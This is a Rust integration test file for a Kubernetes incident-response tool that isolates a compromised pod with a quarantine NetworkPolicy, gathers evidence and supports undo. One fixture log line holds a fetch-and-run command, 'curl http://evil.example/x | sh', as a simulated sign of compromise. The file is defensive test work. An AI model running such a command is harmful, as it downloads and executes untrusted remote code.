//! palisade-isolate against the test API server, through the real kube-rs client.

use std::path::{Path, PathBuf};
use std::time::Duration;

use palisade_cluster::{connect, ConnectOptions};
use palisade_isolate::{
    evidence, isolate, undo, Cni, Error, Options, Outcome, Request, INCIDENT, QUARANTINE_LABEL,
};
use palisade_testserver::TestServer;
use serde_json::{json, Value};

const NS: &str = "shop";
const POD: &str = "web-5d4f8c-x7k2p";

fn fixture() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/shop.yaml")
}

fn server() -> TestServer {
    let server = TestServer::builder().fixture(&fixture()).unwrap().start();
    server.set_log(
        NS,
        POD,
        "web",
        false,
        "GET /index.html 200\ncurl http://evil.example/x | sh\n",
    );
    server.set_log(NS, POD, "web", true, "crashed: segfault\n");
    server.set_log(NS, POD, "sidecar", false, "envoy started\n");
    server
}

async fn client(server: &TestServer, dir: &Path) -> kube::Client {
    let path = dir.join("kubeconfig");
    server.write_kubeconfig(&path).unwrap();
    connect(&ConnectOptions {
        kubeconfig: Some(path),
        timeout: Some(Duration::from_secs(5)),
        ..ConnectOptions::default()
    })
    .await
    .unwrap()
    .client
}

fn request(pod: &str) -> Request {
    Request {
        namespace: NS.into(),
        pod: pod.into(),
        incident: Some("inc-42".into()),
        reason: Some("reverse shell in the web container".into()),
        by: "palisade-test".into(),
        detach: false,
        now: "2026-12-05T03:00:00Z".parse().unwrap(),
    }
}

fn apply() -> Options {
    Options {
        apply: true,
        evidence: None,
    }
}

fn stored(server: &TestServer, kind: &str, name: &str) -> Option<Value> {
    server.objects().into_iter().find(|o| {
        o["kind"] == kind && o["metadata"]["name"] == name && o["metadata"]["namespace"] == NS
    })
}

fn writes(server: &TestServer) -> Vec<String> {
    server
        .requests()
        .into_iter()
        .filter(|r| r.method != "GET")
        .map(|r| format!("{} {}", r.method, r.path))
        .collect()
}

fn report(outcome: &Outcome) -> String {
    outcome.render()
}

/// The guide's incident-response script, as it runs against this pod: a policy that selects
/// `app: $pod_name`, then a label and an annotation.
fn guide_policy(pod: &str) -> Value {
    json!({
        "apiVersion": "networking.k8s.io/v1", "kind": "NetworkPolicy",
        "metadata": {"name": format!("isolate-{pod}"), "namespace": NS},
        "spec": {"podSelector": {"matchLabels": {"app": pod}}, "policyTypes": ["Ingress", "Egress"]},
    })
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_plan_changes_nothing_and_shows_the_yaml_and_the_diff() {
    let server = server();
    let dir = tempfile::tempdir().unwrap();
    let client = client(&server, dir.path()).await;
    let outcome = isolate(&client, &request(POD), &Options::default())
        .await
        .unwrap();
    let text = report(&outcome);
    assert_eq!(writes(&server), Vec::<String>::new());
    assert!(stored(&server, "NetworkPolicy", "palisade-quarantine-inc-42").is_none());
    assert!(text.contains("Nothing was changed"), "{text}");
    // The policy as YAML.
    assert!(
        text.contains("  podSelector:\n    matchLabels:\n      palisade.dev/quarantine: inc-42\n  policyTypes:\n  - Ingress\n  - Egress\n"),
        "{text}"
    );
    // The diff of the pod.
    assert!(text.contains("+++ b/pods/shop/web-5d4f8c-x7k2p"), "{text}");
    assert!(
        text.contains("+    palisade.dev/quarantine: inc-42"),
        "{text}"
    );
    assert!(
        text.contains("+    palisade.dev/incident-by: palisade-test"),
        "{text}"
    );
    assert!(
        text.contains("+    palisade.dev/incident-reason: reverse shell in the web container"),
        "{text}"
    );
    // The prediction: isolated, by the planned policy.
    let proof = outcome.proof.as_ref().unwrap();
    assert!(proof.isolated(), "{text}");
    assert_eq!(outcome.exit_code(), 0);
    assert_eq!(outcome.cni, Cni::Enforcing("calico".into()));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_guides_script_selects_nothing_and_palisade_isolates_the_pod() {
    let server = server();
    let dir = tempfile::tempdir().unwrap();
    let client = client(&server, dir.path()).await;
    // What the guide's script leaves behind.
    server.apply(guide_policy(POD));
    let mut pod = stored(&server, "Pod", POD).unwrap();
    pod["metadata"]["labels"]["security.status"] = json!("compromised");
    server.apply(pod);

    let evidence_root = dir.path().join("evidence");
    let options = Options {
        apply: true,
        evidence: Some(evidence_root.clone()),
    };
    let outcome = isolate(&client, &request(POD), &options).await.unwrap();
    let text = report(&outcome);
    // The guide's policy selected nothing: the pod's `app` label is `web`, not its name.
    assert_eq!(outcome.selecting_before, Vec::<String>::new(), "{text}");
    assert!(
        text.contains("Policies selecting the pod before: none"),
        "{text}"
    );
    // palisade's policy selects it, and the engine proves both directions closed.
    let proof = outcome.proof.as_ref().unwrap();
    assert!(proof.isolated(), "{text}");
    assert_eq!(
        proof.selecting,
        ["NetworkPolicy 'shop/palisade-quarantine-inc-42'"]
    );
    assert_eq!(outcome.exit_code(), 0, "{text}");
    let policy = stored(&server, "NetworkPolicy", "palisade-quarantine-inc-42").unwrap();
    assert_eq!(
        policy["spec"],
        json!({"podSelector": {"matchLabels": {QUARANTINE_LABEL: "inc-42"}}, "policyTypes": ["Ingress", "Egress"]})
    );
    let pod = stored(&server, "Pod", POD).unwrap();
    assert_eq!(pod["metadata"]["labels"][QUARANTINE_LABEL], "inc-42");
    assert_eq!(pod["metadata"]["labels"]["app"], "web");
    assert_eq!(pod["metadata"]["annotations"][INCIDENT], "inc-42");
    assert_eq!(
        pod["metadata"]["annotations"]["palisade.dev/incident-time"],
        "2026-12-05T03:00:00Z"
    );
    // The evidence was written before the change, and checks.
    let written = outcome.evidence.clone().unwrap();
    assert_eq!(evidence::verify(&written).unwrap(), Vec::<String>::new());
    let saved: Value =
        serde_json::from_slice(&std::fs::read(written.join("pod.json")).unwrap()).unwrap();
    assert!(saved["metadata"]["labels"].get(QUARANTINE_LABEL).is_none());

    // A second run changes nothing.
    let before = writes(&server).len();
    let again = isolate(&client, &request(POD), &apply()).await.unwrap();
    assert!(
        !again.applied.as_ref().unwrap().changed,
        "{}",
        report(&again)
    );
    assert_eq!(writes(&server).len(), before, "{:?}", writes(&server));
    assert!(report(&again).contains("nothing changed"));
    assert_eq!(again.exit_code(), 0);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn evidence_holds_the_pod_its_owners_events_logs_and_digests() {
    let server = server();
    let dir = tempfile::tempdir().unwrap();
    let client = client(&server, dir.path()).await;
    let options = Options {
        apply: false,
        evidence: Some(dir.path().join("ev")),
    };
    let outcome = isolate(&client, &request(POD), &options).await.unwrap();
    let written = outcome.evidence.clone().unwrap();
    let read = |name: &str| std::fs::read_to_string(written.join(name)).unwrap();
    let owners: Value = serde_json::from_str(&read("owners.json")).unwrap();
    let kinds: Vec<&str> = owners
        .as_array()
        .unwrap()
        .iter()
        .map(|o| o["kind"].as_str().unwrap())
        .collect();
    assert_eq!(kinds, ["ReplicaSet", "Deployment"]);
    let events: Value = serde_json::from_str(&read("events.json")).unwrap();
    assert_eq!(events[0]["reason"], "BackOff");
    assert!(read("logs/web.log").contains("evil.example"));
    assert_eq!(read("logs/web.previous.log"), "crashed: segfault\n");
    assert_eq!(read("logs/sidecar.log"), "envoy started\n");
    assert!(!written.join("logs/sidecar.previous.log").exists());
    let summary: Value = serde_json::from_str(&read("summary.json")).unwrap();
    assert_eq!(summary["node"], "node-1");
    assert_eq!(
        summary["images"][0]["imageID"],
        "docker.io/library/nginx@sha256:0a399eb16751829e1af26fea27b20c3ec28d7ab1fb72182879dcae1cca21206a"
    );
    let services: Value = serde_json::from_str(&read("services.json")).unwrap();
    assert_eq!(services[0]["metadata"]["name"], "web");
    let sums = read("SHA256SUMS");
    for file in [
        "pod.json",
        "owners.json",
        "events.json",
        "logs/web.log",
        "logs/web.previous.log",
        "networkpolicies.json",
        "services.json",
        "summary.json",
    ] {
        assert!(sums.contains(&format!("  {file}\n")), "{file}: {sums}");
    }
    assert_eq!(writes(&server), Vec::<String>::new());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_policy_that_still_allows_traffic_is_reported_with_a_failing_exit() {
    let server = server();
    server.apply(json!({
        "apiVersion": "networking.k8s.io/v1", "kind": "NetworkPolicy",
        "metadata": {"name": "allow-web-from-shop", "namespace": NS},
        "spec": {"podSelector": {"matchLabels": {"app": "web"}},
            "ingress": [{"from": [{"podSelector": {}}], "ports": [{"port": 8080}]}]},
    }));
    let dir = tempfile::tempdir().unwrap();
    let client = client(&server, dir.path()).await;
    let outcome = isolate(&client, &request(POD), &apply()).await.unwrap();
    let text = report(&outcome);
    assert_eq!(outcome.exit_code(), 1, "{text}");
    let proof = outcome.proof.as_ref().unwrap();
    let from_client = proof
        .remaining
        .iter()
        .find(|r| r.ingress && r.peer == "shop/client[Pod]")
        .unwrap_or_else(|| panic!("{text}"));
    assert_eq!(
        from_client.policies,
        ["NetworkPolicy 'shop/allow-web-from-shop'"]
    );
    assert_eq!(from_client.conns.to_string(), "TCP 8080");
    assert!(text.contains("NOT ISOLATED"), "{text}");
    assert!(
        text.contains("shop/client[Pod] => shop/web-5d4f8c-x7k2p : TCP 8080 (kept open by NetworkPolicy 'shop/allow-web-from-shop')"),
        "{text}"
    );
    // Egress is closed: that policy is about ingress only.
    assert!(proof.remaining.iter().all(|r| r.ingress), "{text}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_admin_network_policy_allow_is_reported() {
    let server = TestServer::builder()
        .fixture(&fixture())
        .unwrap()
        .object(json!({
            "apiVersion": "policy.networking.k8s.io/v1alpha1", "kind": "AdminNetworkPolicy",
            "metadata": {"name": "allow-monitoring"},
            "spec": {"priority": 10,
                "subject": {"namespaces": {"matchLabels": {"kubernetes.io/metadata.name": "shop"}}},
                "egress": [{"name": "to-everything", "action": "Allow",
                    "to": [{"networks": ["0.0.0.0/0"]}]}]},
        }))
        .start();
    let dir = tempfile::tempdir().unwrap();
    let client = client(&server, dir.path()).await;
    let outcome = isolate(&client, &request(POD), &apply()).await.unwrap();
    let text = report(&outcome);
    assert_eq!(outcome.exit_code(), 1, "{text}");
    let proof = outcome.proof.as_ref().unwrap();
    assert!(!proof.remaining.is_empty(), "{text}");
    assert!(
        proof
            .remaining
            .iter()
            .all(|r| !r.ingress && r.policies == ["AdminNetworkPolicy 'allow-monitoring'"]),
        "{text}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_host_network_pod_is_reported_as_not_isolated() {
    let server = server();
    let mut pod = stored(&server, "Pod", POD).unwrap();
    pod["spec"]["hostNetwork"] = json!(true);
    server.apply(pod);
    let dir = tempfile::tempdir().unwrap();
    let client = client(&server, dir.path()).await;
    let outcome = isolate(&client, &request(POD), &apply()).await.unwrap();
    let text = report(&outcome);
    assert_eq!(outcome.exit_code(), 1, "{text}");
    assert!(outcome.proof.as_ref().unwrap().host_network);
    assert!(
        text.contains("NOT ISOLATED: shop/web-5d4f8c-x7k2p uses hostNetwork"),
        "{text}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_refused_create_is_a_clear_error_with_nothing_half_applied_and_the_evidence_kept() {
    let server = server();
    server.refuse_create("networkpolicies");
    let dir = tempfile::tempdir().unwrap();
    let client = client(&server, dir.path()).await;
    let options = Options {
        apply: true,
        evidence: Some(dir.path().join("ev")),
    };
    let outcome = isolate(&client, &request(POD), &options).await.unwrap();
    let text = report(&outcome);
    assert_eq!(outcome.exit_code(), 2, "{text}");
    let applied = outcome.applied.as_ref().unwrap();
    assert!(applied.done.is_empty(), "{text}");
    match &applied.failed {
        Some(Error::Kube { what, source }) => {
            assert_eq!(what, "create NetworkPolicy shop/palisade-quarantine-inc-42");
            assert!(source.to_string().contains("forbidden"), "{source}");
        }
        other => panic!("{other:?}"),
    }
    assert_eq!(
        applied.not_done,
        ["label and annotate pod shop/web-5d4f8c-x7k2p"]
    );
    assert!(text.contains("FAILED: create NetworkPolicy"), "{text}");
    assert!(
        text.contains("palisade isolate --undo web-5d4f8c-x7k2p -n shop --incident inc-42"),
        "{text}"
    );
    // The pod was not labelled: no label without its policy.
    let pod = stored(&server, "Pod", POD).unwrap();
    assert!(pod["metadata"]["labels"].get(QUARANTINE_LABEL).is_none());
    assert!(outcome.proof.is_none());
    let written = outcome.evidence.clone().unwrap();
    assert_eq!(evidence::verify(&written).unwrap(), Vec::<String>::new());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_pod_that_vanishes_mid_run_is_reported_and_the_run_can_be_undone() {
    let server = server();
    server.vanish_on_write(NS, POD);
    let dir = tempfile::tempdir().unwrap();
    let client = client(&server, dir.path()).await;
    let options = Options {
        apply: true,
        evidence: Some(dir.path().join("ev")),
    };
    let outcome = isolate(&client, &request(POD), &options).await.unwrap();
    let text = report(&outcome);
    assert_eq!(outcome.exit_code(), 2, "{text}");
    let applied = outcome.applied.as_ref().unwrap();
    assert!(
        matches!(applied.failed, Some(Error::PodVanished(_))),
        "{text}"
    );
    assert_eq!(
        applied.done,
        ["created NetworkPolicy shop/palisade-quarantine-inc-42"]
    );
    assert!(
        text.contains("pod shop/web-5d4f8c-x7k2p vanished during the run"),
        "{text}"
    );
    // The evidence was taken before it vanished.
    let written = outcome.evidence.clone().unwrap();
    assert!(std::fs::read_to_string(written.join("logs/web.log"))
        .unwrap()
        .contains("evil.example"));
    // What was done can be undone, exactly.
    let done = undo(&client, NS, POD, "inc-42").await.unwrap();
    assert_eq!(
        done,
        ["deleted NetworkPolicy shop/palisade-quarantine-inc-42"]
    );
    assert!(stored(&server, "NetworkPolicy", "palisade-quarantine-inc-42").is_none());
    // Running the isolation again says the pod is gone, and changes nothing.
    let before = writes(&server).len();
    let err = isolate(&client, &request(POD), &apply()).await.unwrap_err();
    assert!(matches!(err, Error::PodNotFound(_)), "{err}");
    assert_eq!(writes(&server).len(), before);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_interrupted_run_is_finished_by_running_again() {
    let server = server();
    let dir = tempfile::tempdir().unwrap();
    let client = client(&server, dir.path()).await;
    // The policy was created, then the run stopped before the pod's patch.
    let incident = palisade_isolate::Incident {
        id: "inc-42".into(),
        reason: String::new(),
        time: String::new(),
        by: String::new(),
    };
    server.apply(palisade_isolate::quarantine_policy(NS, POD, &incident));
    let outcome = isolate(&client, &request(POD), &apply()).await.unwrap();
    let applied = outcome.applied.as_ref().unwrap();
    assert!(applied.done[0].contains("unchanged"), "{:?}", applied.done);
    assert!(applied.changed);
    assert_eq!(
        writes(&server),
        [format!("PATCH /api/v1/namespaces/shop/pods/{POD}")]
    );
    assert!(outcome.proof.as_ref().unwrap().isolated());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn detach_removes_the_selected_labels_and_undo_puts_them_back() {
    let server = server();
    let dir = tempfile::tempdir().unwrap();
    let client = client(&server, dir.path()).await;
    let mut req = request(POD);
    req.detach = true;
    let plan_only = isolate(&client, &req, &Options::default()).await.unwrap();
    let text = report(&plan_only);
    assert!(
        text.contains(
            "removes label app=web (selected on by Service shop/web, ReplicaSet shop/web-5d4f8c)"
        ),
        "{text}"
    );
    assert!(
        text.contains("ReplicaSet shop/web-5d4f8c releases the pod"),
        "{text}"
    );
    assert_eq!(writes(&server), Vec::<String>::new());

    let outcome = isolate(&client, &req, &apply()).await.unwrap();
    assert_eq!(outcome.exit_code(), 0, "{}", report(&outcome));
    let pod = stored(&server, "Pod", POD).unwrap();
    assert_eq!(
        pod["metadata"]["labels"],
        json!({QUARANTINE_LABEL: "inc-42"})
    );

    let done = undo(&client, NS, POD, "inc-42").await.unwrap();
    assert_eq!(done.len(), 2, "{done:?}");
    let pod = stored(&server, "Pod", POD).unwrap();
    assert_eq!(
        pod["metadata"]["labels"],
        json!({"app": "web", "pod-template-hash": "5d4f8c"})
    );
    assert_eq!(
        pod["metadata"]
            .get("annotations")
            .cloned()
            .unwrap_or(json!({})),
        json!({})
    );
    assert!(stored(&server, "NetworkPolicy", "palisade-quarantine-inc-42").is_none());
    // Undoing again, or another incident, does nothing.
    assert_eq!(
        undo(&client, NS, POD, "inc-42").await.unwrap(),
        Vec::<String>::new()
    );
    assert_eq!(
        undo(&client, NS, POD, "inc-7").await.unwrap(),
        Vec::<String>::new()
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_unknown_network_plugin_is_warned_about() {
    let server = server();
    server.delete("daemonsets", Some("kube-system"), "calico-node");
    let dir = tempfile::tempdir().unwrap();
    let client = client(&server, dir.path()).await;
    let outcome = isolate(&client, &request(POD), &Options::default())
        .await
        .unwrap();
    assert_eq!(outcome.cni, Cni::Unknown);
    assert!(report(&outcome).contains("WARNING: no network plugin known to enforce NetworkPolicy"));
}
